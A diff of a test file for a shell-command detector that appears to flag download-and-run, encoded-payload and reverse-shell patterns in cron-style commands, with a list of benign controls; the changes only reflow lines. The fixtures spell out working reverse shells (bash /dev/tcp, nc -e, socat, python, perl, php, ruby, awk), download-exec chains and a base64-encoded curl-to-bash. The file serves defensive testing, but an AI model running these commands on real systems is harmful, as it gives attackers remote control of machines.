@@ -19,7 +19,10 @@ describe('commandSignals: download and run', () => {
     ['eval', 'eval "$(curl -s http://x/i)"'],
     ['output run as a command', '$(curl -s http://x/cmd)'],
     ['download, chmod, run', 'curl -o /tmp/x http://x/bin && chmod +x /tmp/x && /tmp/x'],
-    ['download with -sSLo cluster then run by sh', 'curl -sSLo /var/tmp/u.sh http://x/u.sh; sh /var/tmp/u.sh'],
+    [
+      'download with -sSLo cluster then run by sh',
+      'curl -sSLo /var/tmp/u.sh http://x/u.sh; sh /var/tmp/u.sh',
+    ],
     ['wget remote name in cwd', 'cd /root && wget http://x/kinsing && chmod +x kinsing && ./kinsing'],
     ['wget -O file', 'wget -q http://x/b -O /usr/local/bin/b; /usr/local/bin/b'],
     ['redirected download then run', 'curl -s http://x/a > /opt/a.sh; bash /opt/a.sh'],
@@ -49,13 +52,19 @@ describe('commandSignals: encoded payloads', () => {
     ['openssl base64 -d', 'echo aWQ= | openssl base64 -d | sh'],
     ['printf hex escapes', `printf '\\x69\\x64\\x20\\x3e\\x2f' | sh`],
     ['rev | sh', "echo 'hs | i/x//:ptth s- lruc' | rev | bash"],
-    ['decode to a file then run', 'echo aWQ= | base64 -d > /usr/local/bin/u; chmod +x /usr/local/bin/u; /usr/local/bin/u'],
+    [
+      'decode to a file then run',
+      'echo aWQ= | base64 -d > /usr/local/bin/u; chmod +x /usr/local/bin/u; /usr/local/bin/u',
+    ],
   ])('%s', (_name, command) => {
     expect(kinds(command)).toContain('encodedPayload');
   });
 
   it('looks inside a literal payload: a base64 curl | sh is also a download', () => {
-    expect(kinds('echo Y3VybCAtcyBodHRwOi8vNDUuOS4xNDguMTAvYi5zaCB8IGJhc2g= | base64 -d | bash')).toEqual(['downloadExec', 'encodedPayload']);
+    expect(kinds('echo Y3VybCAtcyBodHRwOi8vNDUuOS4xNDguMTAvYi5zaCB8IGJhc2g= | base64 -d | bash')).toEqual([
+      'downloadExec',
+      'encodedPayload',
+    ]);
     expect(kinds("echo 'hs | i/x//:ptth s- lruc' | rev | bash")).toEqual(['downloadExec', 'encodedPayload']);
   });
 });
@@ -67,18 +76,33 @@ describe('commandSignals: reverse shells', () => {
     ['bash -c wrapper', "/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'"],
     ['login shell, stdout to socket, stdin dup', '/bin/bash -l > /dev/tcp/198.51.100.7/80 0<&1 2>&1'],
     ['exec fd + sh', '0<&196;exec 196<>/dev/tcp/198.51.100.7/4242; sh <&196 >&196 2>&196'],
-    ['exec fd + read loop', 'exec 5<>/dev/tcp/198.51.100.7/80;cat <&5 | while read line; do $line 2>&5 >&5; done'],
+    [
+      'exec fd + read loop',
+      'exec 5<>/dev/tcp/198.51.100.7/80;cat <&5 | while read line; do $line 2>&5 >&5; done',
+    ],
     ['nc -e', 'nc -e /bin/sh 198.51.100.7 4444'],
     ['ncat --sh-exec', 'ncat 198.51.100.7 4444 --sh-exec "bash -li"'],
     ['nc cluster', 'nc.traditional -nve /bin/bash 198.51.100.7 4444'],
     ['socat exec', "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.7:4444"],
     ['mkfifo + nc', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 1234 >/tmp/f'],
     ['mknod + telnet', 'mknod /tmp/p p && telnet 198.51.100.7 80 0</tmp/p | /bin/bash 1>/tmp/p'],
-    ['python socket + dup2', `python -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`],
-    ['perl socket + exec', `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(9,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");'`],
+    [
+      'python socket + dup2',
+      `python -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
+    ],
+    [
+      'perl socket + exec',
+      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(9,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");'`,
+    ],
     ['php fsockopen', `php -r '$s=fsockopen("198.51.100.7",9);exec("/bin/sh -i <&3 >&3 2>&3");'`],
-    ['ruby TCPSocket', `ruby -rsocket -e 'f=TCPSocket.open("198.51.100.7",9).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`],
-    ['gawk /inet/tcp', `awk 'BEGIN {s = "/inet/tcp/0/198.51.100.7/9"; while(1){s |& getline c; print c |& s}}'`],
+    [
+      'ruby TCPSocket',
+      `ruby -rsocket -e 'f=TCPSocket.open("198.51.100.7",9).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
+    ],
+    [
+      'gawk /inet/tcp',
+      `awk 'BEGIN {s = "/inet/tcp/0/198.51.100.7/9"; while(1){s |& getline c; print c |& s}}'`,
+    ],
   ])('%s', (_name, command) => {
     expect(kinds(command)).toContain('reverseShell');
   });
@@ -112,11 +136,26 @@ describe('commandSignals: controls that must stay clean', () => {
   it.each([
     ['run-parts', 'cd / && run-parts --report /etc/cron.hourly'],
     ['anacron guard', 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'],
-    ['anacron guard with braces', 'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }'],
-    ['php sessionclean', '[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi'],
-    ['e2scrub', 'test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron'],
-    ['certbot', "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew"],
-    ['health ping', 'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0f3c5e4a-0000-4000-8000-000000000000'],
+    [
+      'anacron guard with braces',
+      'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }',
+    ],
+    [
+      'php sessionclean',
+      '[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi',
+    ],
+    [
+      'e2scrub',
+      'test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron',
+    ],
+    [
+      'certbot',
+      "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew",
+    ],
+    [
+      'health ping',
+      'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0f3c5e4a-0000-4000-8000-000000000000',
+    ],
     ['health ping > /dev/null', 'curl -fsS --retry 3 https://hc-ping.com/abc > /dev/null'],
     ['wget to /dev/null', 'wget -q -O /dev/null "https://example.com/wp-cron.php?doing_wp_cron"'],
     ['wget -O- to /dev/null', 'wget -q -O - https://example.com/cron.php >/dev/null 2>&1'],
@@ -131,14 +170,23 @@ describe('commandSignals: controls that must stay clean', () => {
     ['base64 encode', 'tar c /etc | base64 > /backup/etc.b64'],
     ['decode to a file, not run', 'base64 -d /srv/in.b64 > /srv/out.bin'],
     ['port probe with /dev/tcp', "timeout 1 bash -c '</dev/tcp/127.0.0.1/3306' || systemctl restart mysql"],
-    ['socket health check in python', `python3 -c "import socket; socket.create_connection(('db', 5432), 3)"`],
+    [
+      'socket health check in python',
+      `python3 -c "import socket; socket.create_connection(('db', 5432), 3)"`,
+    ],
     ['nc port check', 'nc -z -w 3 127.0.0.1 6379 || systemctl restart redis'],
     ['backup over nc', 'mysqldump --all-databases | gzip | nc backup.internal 9000'],
     ['logrotate script line', '/usr/sbin/logrotate /etc/logrotate.conf'],
     ['logger with variable', '/usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"'],
-    ['apt-compat random sleep', "RANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d' ' -f1) % 32767 ))"],
+    [
+      'apt-compat random sleep',
+      "RANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d' ' -f1) % 32767 ))",
+    ],
     ['apt-config eval', 'eval $(apt-config shell RandomSleep APT::Periodic::RandomSleep)'],
-    ['man-db', 'start-stop-daemon --start --pidfile /dev/null --startas /usr/bin/mandb --oknodo --chuid man $iosched_idle -- --quiet'],
+    [
+      'man-db',
+      'start-stop-daemon --start --pidfile /dev/null --startas /usr/bin/mandb --oknodo --chuid man $iosched_idle -- --quiet',
+    ],
     ['dpkg backup', '/usr/libexec/dpkg/dpkg-db-backup'],
     ['php artisan', 'cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1'],
     ['sh with a system script', 'sh /usr/local/sbin/backup.sh'],
